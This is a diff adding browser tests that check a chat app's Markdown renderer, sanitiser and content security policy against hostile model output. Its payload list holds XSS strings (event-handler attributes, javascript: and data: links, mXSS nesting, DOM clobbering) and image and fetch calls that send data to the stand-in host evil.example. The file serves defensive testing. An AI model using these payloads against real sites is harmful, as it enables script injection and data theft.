@@ -1,0 +1,237 @@
+"""What a model writes can neither run, nor load, nor lead astray."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from playwright.async_api import Locator, Page, expect
+
+from tests.browser.fake import FakeServer, says
+
+pytestmark = pytest.mark.asyncio(loop_scope="session")
+
+PAYLOADS = [
+    "<script>window.pwned = 1</script>",
+    "<img src=x onerror='window.pwned = 1'>",
+    "<svg onload='window.pwned = 1'><animate onbegin='window.pwned = 1'></svg>",
+    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
+    "<b onclick='window.pwned = 1' onmouseover='window.pwned = 1'>bold</b>",
+    "<a href='javascript:window.pwned = 1'>click</a>",
+    "[click](javascript:window.pwned=1) [c](JaVaScRiPt&colon;window.pwned=1) <javascript:window.pwned=1>",
+    "[data](data:text/html,<script>window.pwned=1</script>)",
+    "<style>*{display:none}</style><form action='//evil.example'><input name=q></form>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.pwned=1>'>",
+    "<details open ontoggle='window.pwned = 1'><summary>s</summary></details>",
+    "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
+    "```html\n<img src=x onerror='window.pwned = 1'>\n```",
+    "| a |\n|---|\n| <img src=x onerror='window.pwned = 1'> |",
+    "![x](https://evil.example/steal?q=secret) <img src='https://evil.example/steal'>",
+    '![x](javascript:window.pwned=1) !["onerror=window.pwned=1](https://evil.example/"onerror=window.pwned=1)',
+    "[x]: https://evil.example/ 'title'\n\n![x] and ![y][x]",
+    "<div id='transcript' class='question'>clobber</div><a name=chat>",
+]
+
+FORBIDDEN = (
+    "script, style, iframe, object, embed, form, input, img, svg:not(.icon), math, base, meta, link, [style]"
+)
+
+
+async def answer_to(page: Page, fake: FakeServer, *pieces: str) -> Locator:
+    fake.scripts.append(says(*pieces))
+    await page.get_by_role("textbox", name="Message").fill("Go")
+    await page.keyboard.press("Enter")
+    answer = page.get_by_role("article", name="Answer").last
+    await expect(answer.locator(".figures")).to_contain_text("token")
+    return answer.locator(".prose")
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+async def test_hostile_text_arriving_character_by_character_does_nothing(
+    page: Page, fake: FakeServer, payload: str
+) -> None:
+    prose = await answer_to(page, fake, *payload, "\n\nThe end.")
+    await expect(prose).to_contain_text("The end.")
+    assert await prose.locator(FORBIDDEN).count() == 0
+    attributes = await prose.evaluate(
+        "(root) => [...root.querySelectorAll('*')].flatMap((e) => e.getAttributeNames())"
+        ".filter((name) => name.startsWith('on') || name === 'id' || name === 'name')"
+    )
+    assert attributes == []
+    hrefs = await prose.evaluate(
+        "(root) => [...root.querySelectorAll('[href]')].map((e) => e.getAttribute('href'))"
+    )
+    assert [h for h in hrefs if not h.startswith(("https://", "http://", "mailto:", "#icon-"))] == []
+    assert await page.evaluate("window.pwned") is None
+
+
+async def test_the_sanitiser_holds_without_the_markdown_step(page: Page) -> None:
+    """The renderer escapes most tags already; the gate behind it must not depend on that."""
+    kept = await page.evaluate(
+        """async (payloads) => {
+            const { sanitise } = await import("/static/markdown.js");
+            return payloads.map((html) => {
+                const box = document.createElement("div");
+                box.append(sanitise(html));
+                return box.innerHTML;
+            });
+        }""",
+        PAYLOADS[:12],
+    )
+    for html in kept:
+        assert not any(
+            bad in html
+            for bad in ("<script", "<img", "<svg", "<iframe", "<style", "<form", "<base", "<meta", "<math")
+        )
+        assert " on" not in html or "onclick" not in html
+        assert 'href="javascript' not in html.lower()
+
+
+async def test_tags_are_shown_as_the_text_they_are(page: Page, fake: FakeServer) -> None:
+    prose = await answer_to(page, fake, "Use the <script> tag, H<sub>2</sub>O and <br> 1 < 2.")
+    await expect(prose).to_have_text("Use the <script> tag, H2O and 1 < 2.")
+    await expect(prose.locator("sub")).to_have_text("2")
+
+
+async def test_an_image_is_a_link_that_says_where_to(page: Page, fake: FakeServer) -> None:
+    prose = await answer_to(page, fake, "![A cat](https://pictures.example/cat.png)")
+    chip = prose.get_by_role("link")
+    await expect(chip).to_have_text("A cat pictures.example")
+    await expect(chip).to_have_attribute("rel", "noopener noreferrer")
+    await expect(chip).to_have_attribute("target", "_blank")
+
+
+async def test_links_open_apart_and_show_their_target(page: Page, fake: FakeServer) -> None:
+    prose = await answer_to(page, fake, "[your bank](https://evil.example/login)")
+    link = prose.get_by_role("link", name="your bank")
+    await expect(link).to_have_attribute("title", "https://evil.example/login")
+    await expect(link).to_have_attribute("rel", "noopener noreferrer")
+
+
+async def test_user_text_is_text(page: Page, fake: FakeServer) -> None:
+    fake.scripts.append(says("ok"))
+    hostile = "<img src=x onerror='window.pwned=1'> **not bold** [l](javascript:1)"
+    await page.get_by_role("textbox", name="Message").fill(hostile)
+    await page.keyboard.press("Enter")
+    await expect(page.get_by_role("article", name="You")).to_have_text(hostile)
+    # The title in the list comes from the same text.
+    await expect(page.locator("#conversations li")).to_contain_text("<img src=x")
+
+
+async def test_the_policy_blocks_what_slips_through(page: Page, watch) -> None:  # type: ignore[no-untyped-def]
+    watch.allow("policy violation|Content Security Policy|TrustedHTML|Trusted")
+    blocked = await page.evaluate(
+        """async () => {
+            const results = {};
+            try { document.createElement("div").innerHTML = "<b>x</b>"; results.html = "set"; } catch { results.html = "blocked"; }
+            try { await fetch("https://evil.example/"); results.fetch = "sent"; } catch { results.fetch = "blocked"; }
+            try { eval("1"); results.eval = "ran"; } catch { results.eval = "blocked"; }
+            return results;
+        }"""
+    )
+    assert blocked == {"html": "blocked", "fetch": "blocked", "eval": "blocked"}
+
+
+MARKDOWN = """# Title
+
+A paragraph with **bold**, *italic*, `code` and a [link](https://example.com/a_(b)).
+Second line.
+
+1. First
+
+2. Second
+   - nested *item*
+
+     more of it
+3. Third
+
+| a | b |
+|---|--:|
+| 1 | **2** |
+
+> quoted
+lazy
+
+```py
+def f():
+    return "``"
+```
+
+- [x] done
+- [ ] open
+
+Setext
+---
+
+See [the docs][d] and ![pic](https://pictures.example/p.png).
+
+[d]: https://example.com/docs
+"""
+
+
+async def test_growing_text_ends_as_the_same_page_as_the_text_at_once(page: Page) -> None:
+    """Whatever the chunks: blocks that were kept while the text grew are what a single rendering gives."""
+    grown, once = await page.evaluate(
+        """async (text) => {
+            const { MarkdownView } = await import("/static/markdown.js");
+            const frame = () => new Promise(requestAnimationFrame);
+            const grow = document.createElement("div"), whole = document.createElement("div");
+            const view = new MarkdownView(grow);
+            for (let end = 1; end <= text.length; end += 1) { view.grow(text.slice(0, end)); if (end % 3 === 0) await frame(); }
+            view.finish(text);
+            new MarkdownView(whole).finish(text);
+            return [grow.innerHTML, whole.innerHTML];
+        }""",
+        MARKDOWN,
+    )
+    assert grown == once
+    for part in (
+        "<h1",
+        "<strong>bold</strong>",
+        "<table>",
+        "<blockquote",
+        "☑ done",
+        "image-chip",
+        "example.com/docs",
+    ):
+        assert part in once
+    assert json.dumps(once).count("<ol") == 1
+
+
+async def test_finished_blocks_keep_their_elements(page: Page) -> None:
+    """A reader may select or copy in what is finished while the rest still grows."""
+    kept = await page.evaluate(
+        """async () => {
+            const { MarkdownView } = await import("/static/markdown.js");
+            const frame = () => new Promise(requestAnimationFrame);
+            const root = document.createElement("div");
+            const view = new MarkdownView(root);
+            view.grow("First.\\n\\n```\\ncode 1\\n"); await frame(); await frame();
+            const first = root.firstElementChild, text = root.querySelector("code").firstChild;
+            view.grow("First.\\n\\n```\\ncode 1\\ncode 2\\n"); await frame(); await frame();
+            const same = [first === root.firstElementChild, text === root.querySelector("code").firstChild, text.data];
+            view.finish("First.\\n\\n```\\ncode 1\\ncode 2\\n```\\n\\nLast.");
+            return [...same, first === root.firstElementChild, root.children.length];
+        }"""
+    )
+    assert kept == [True, True, "code 1\ncode 2", True, 3]
+
+
+async def test_half_written_marks_do_not_flicker(page: Page) -> None:
+    mended = await page.evaluate(
+        """async (sources) => {
+            const { mend } = await import("/static/markdown.js");
+            return sources.map(mend);
+        }""",
+        [
+            "a **bo",
+            "a **bold*",
+            "a **bold**",
+            "use `x",
+            "see [docs](https://exa",
+            "end\n``",
+            "* a\n*",
+            "a **",
+        ],
+    )
+    assert mended == ["a **bo**", "a **bold**", "a **bold**", "use `x`", "see docs", "end\n", "* a\n", "a "]
